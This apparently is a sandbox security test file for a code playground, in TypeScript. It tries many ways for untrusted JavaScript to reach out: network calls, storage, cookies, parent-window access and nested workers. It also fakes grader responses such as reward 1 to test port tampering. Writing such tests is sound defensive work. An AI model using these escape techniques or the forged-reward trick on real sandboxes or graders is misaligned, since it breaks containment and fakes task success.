/**
 * What arbitrary JavaScript would try from inside the sandbox. Each function runs in the attacked realm: it is
 * sent there as text, so everything it needs comes as its argument.
 */
export type Target = { origin: string; host: string; stun: string };

/** In a worker, or in the frame's window. Tells for each way how far it came; whether it got out, the canary tells. */
export async function attackFromRealm({ origin, host, stun }: Target): Promise<Record<string, string>> {
  const results: Record<string, string> = {};
  const realm = globalThis as unknown as Record<string, never>;
  // Where the clock was deleted, what has not failed after a few turns counts as come through.
  const wait = async (): Promise<string> => {
    if (typeof setTimeout === "function") await new Promise((resolve) => setTimeout(resolve, 1500));
    else for (let turn = 0; turn < 100; turn += 1) await Promise.resolve();
    return "silence";
  };
  const tries: Promise<void>[] = [];
  let nested: Worker | null = null as Worker | null;
  const attempt = (name: string, work: () => unknown): void => {
    const run = async (): Promise<void> => {
      try {
        const outcome = await Promise.race([work(), wait()]);
        results[name] = `came through: ${typeof outcome === "object" ? Object.prototype.toString.call(outcome) : String(outcome)}`;
      } catch (error) {
        results[name] = `refused: ${String(error).slice(0, 120)}`;
      }
    };
    tries.push(run());
  };
  const answered = (target: EventTarget, good: string): Promise<string> =>
    new Promise((resolve, reject) => {
      target.addEventListener(good, () => resolve(good));
      target.addEventListener("error", () => reject(new Error("error event")));
    });
  const make = (name: string, ...args: unknown[]): EventTarget => {
    const kind = realm[name] as unknown as (new (...given: unknown[]) => EventTarget) | undefined;
    if (kind === undefined) throw new ReferenceError(`${name} is not there`);
    return new kind(...args);
  };

  attempt("fetch", () => fetch(`${origin}/fetch`, { mode: "no-cors" }));
  attempt("fetch keepalive", () => fetch(`${origin}/keepalive`, { mode: "no-cors", keepalive: true, method: "POST", body: "x" }));
  attempt("XMLHttpRequest", () => {
    const request = make("XMLHttpRequest") as XMLHttpRequest;
    request.open("GET", `${origin}/xhr`);
    const done = answered(request, "load");
    request.send();
    return done;
  });
  attempt("WebSocket", () => answered(make("WebSocket", `ws://${host}/socket`), "open"));
  attempt("EventSource", () => answered(make("EventSource", `${origin}/events`), "open"));
  attempt("WebTransport", () => (make("WebTransport", `https://${host}/transport`) as unknown as { ready: Promise<void> }).ready);
  attempt("importScripts", () => (realm["importScripts"] as unknown as (url: string) => void)(`${origin}/script`));
  attempt("import()", () => import(/* @vite-ignore */ `${origin}/module`));
  attempt("worker by address", () => answered(make("Worker", `${origin}/worker`), "message"));
  attempt("shared worker", () => make("SharedWorker", `${origin}/shared`));
  attempt("beacon", () => navigator.sendBeacon(`${origin}/beacon`, "x") && "queued");
  attempt("WebRTC", async () => {
    const peer = make("RTCPeerConnection", { iceServers: [{ urls: stun }] }) as RTCPeerConnection;
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
    return "gathering";
  });
  attempt("eval", () => (Reflect.get(globalThis, "eval") as (text: string) => unknown)("1 + 1"));
  attempt("Function", () => (Reflect.get(function plain() {}, "constructor") as (text: string) => () => unknown)("return 1")());
  attempt("indexedDB", () => {
    const request = indexedDB.open("codegym-playground");
    return answered(request, "success");
  });
  attempt("indexedDB names", () => indexedDB.databases());
  attempt("caches", () => caches.open("x"));
  attempt("localStorage", () => localStorage.getItem("x"));
  attempt("sessionStorage", () => sessionStorage.length);
  attempt("cookie", () => {
    document.cookie = "stolen=1";
    return document.cookie === "" ? Promise.reject(new Error("no cookie was kept")) : document.cookie;
  });
  attempt("file system", () => navigator.storage.getDirectory());
  attempt("locks", () => navigator.locks.query());
  attempt("service worker", () => navigator.serviceWorker.register(`${origin}/service`));
  attempt("channel to the page", () => {
    for (const name of ["codegym-playground", "probe"]) new BroadcastChannel(name).postMessage({ kind: "everything" });
    return "sent";
  });
  attempt("blob worker that calls out", () => {
    const code = `fetch(${JSON.stringify(`${origin}/nested`)}, {mode: "no-cors"}).then(() => postMessage("out"), (e) => postMessage("in")); try { importScripts(${JSON.stringify(`${origin}/nested-script`)}) } catch {}`;
    nested = make("Worker", URL.createObjectURL(new Blob([code], { type: "text/javascript" }))) as Worker;
    return answered(nested, "message");
  });
  await Promise.all(tries);
  nested?.terminate();
  return results;
}

/** Only with a document: elements that load, links that hint, other windows. */
export async function attackFromDocument({ origin }: Target): Promise<Record<string, string>> {
  const results: Record<string, string> = {};
  const attempt = (name: string, work: () => unknown): void => {
    try {
      results[name] = `came through: ${String(work())}`;
    } catch (error) {
      results[name] = `refused: ${String(error).slice(0, 120)}`;
    }
  };
  const put = (tag: string, attributes: Record<string, string>): void => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.documentElement.append(element);
  };
  const at = (path: string): string => `${origin}/${path}`;
  for (const tag of ["img", "script", "iframe", "embed", "video", "audio", "track", "source", "frame", "input"])
    put(tag, { src: at(tag), type: tag === "input" ? "image" : "" });
  put("object", { data: at("object") });
  put("svg", {});
  put("body", { background: at("background") });
  put("img", { srcset: at("srcset") });
  put("video", { poster: at("poster") });
  for (const rel of ["stylesheet", "preload", "prefetch", "modulepreload", "preconnect", "dns-prefetch", "prerender", "icon", "manifest"])
    put("link", { rel, href: at(rel), as: "image" });
  put("style", {});
  attempt("style sheet", () => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`@font-face { font-family: x; src: url(${at("font")}) } body { background: url(${at("css")}); font-family: x }`);
    document.adoptedStyleSheets = [sheet];
    return "adopted";
  });
  attempt("inline script", () => {
    const script = document.createElement("script");
    script.textContent = `globalThis.ran = true; fetch(${JSON.stringify(at("inline"))})`;
    document.documentElement.append(script);
    if (!Reflect.has(globalThis, "ran")) throw new Error("it did not run");
    return "it ran";
  });
  attempt("speculation rules", () => {
    const script = document.createElement("script");
    script.type = "speculationrules";
    script.textContent = JSON.stringify({ prefetch: [{ urls: [at("speculation")] }] });
    document.documentElement.append(script);
    return "put in";
  });
  attempt("form", () => {
    const form = document.createElement("form");
    form.action = at("form");
    document.documentElement.append(form);
    form.submit();
    return "submitted";
  });
  attempt("ping", () => {
    const link = document.createElement("a");
    link.href = "about:srcdoc#x";
    link.ping = at("ping");
    document.documentElement.append(link);
    link.click();
    return "clicked";
  });
  attempt("window", () => {
    const opened = window.open(at("window"));
    if (opened === null) throw new Error("no window was opened");
    return "opened";
  });
  attempt("top", () => {
    if (window.top === null) throw new Error("there is no top");
    window.top.location.href = at("top");
    return "set";
  });
  attempt("the page's document", () => parent.document.title);
  attempt("the page's storage", () => parent.localStorage.length);
  attempt("the page's address", () => parent.location.href);
  attempt("a nested frame's WebRTC", () => {
    const frame = document.createElement("iframe");
    document.documentElement.append(frame);
    return typeof (frame.contentWindow as unknown as { RTCPeerConnection?: unknown }).RTCPeerConnection;
  });
  attempt("messages to the page", () => {
    for (let count = 0; count < 20_000; count += 1) parent.postMessage({ type: "terminated", id: 1, count }, "*");
    return "sent";
  });
  await new Promise((resolve) => setTimeout(resolve, 1500));
  return results;
}

type PortMode = "stray" | "object" | "huge" | "silence" | "flood" | "forged" | "honest";

/**
 * Runs in the frame: from then on each new interpreter's port is in our hands, and a call is answered as `mode`
 * says. No escape from Python gets so far, since no code in a worker can find its port.
 */
export function takePorts(mode: PortMode): void {
  const scope = globalThis as typeof globalThis & { portMode?: PortMode };
  const taken = scope.portMode !== undefined;
  scope.portMode = mode;
  if (taken) return;
  const forged: Record<string, unknown> = {
    run_main: { output: "", ms: 1, peakBytes: 1 },
    load_environment: {},
    load_solver: {},
    reference_answer: { answer: "1", ms: 1, peakBytes: 1 },
    solve: {
      reward: 1,
      finished: true,
      rounds: 1,
      ms: 1,
      peakBytes: 1,
      trace: [{ action: '{"name": "Done", "parameters": {"answer": 1}}', ok: true, observation: "reward=1" }],
      states: [],
    },
  };
  scope.Worker = class extends Worker {
    override postMessage(message: { port: MessagePort }, options?: StructuredSerializeOptions | Transferable[]): void {
      const transfer = Array.isArray(options) ? options : [];
      const { port } = message;
      const { port1: inner, port2: own } = new MessageChannel();
      const send = (answer: unknown): void => port.postMessage(answer);
      inner.onmessage = ({ data }: MessageEvent<unknown>) => send(data);
      port.onmessage = ({ data }: MessageEvent<unknown>) => {
        const { id, method } = JSON.parse(String(data)) as { id: number; method: string };
        // No judged code ever runs where sources are read; without that nothing else would be asked.
        const reads = ["inspect_environment", "inspect_solver", "insert_solver", "done_answers", "wrong_actions"].includes(method);
        if (reads || scope.portMode === "honest") inner.postMessage(data);
        else if (scope.portMode === "stray") send(JSON.stringify({ id: id + 1, heap: 1, ok: {} }));
        else if (scope.portMode === "object") send({ id, heap: 1, ok: {} });
        else if (scope.portMode === "huge") send("x".repeat(40_000_000));
        else if (scope.portMode === "flood") for (let count = 0; count < 100_000; count += 1) send("x");
        else if (scope.portMode === "forged" && method in forged) send(JSON.stringify({ id, heap: 1, ok: forged[method] }));
        else if (scope.portMode === "forged") inner.postMessage(data);
      };
      super.postMessage(
        { ...message, port: own },
        transfer.map((item) => (item === port ? own : item)),
      );
    }
  };
}
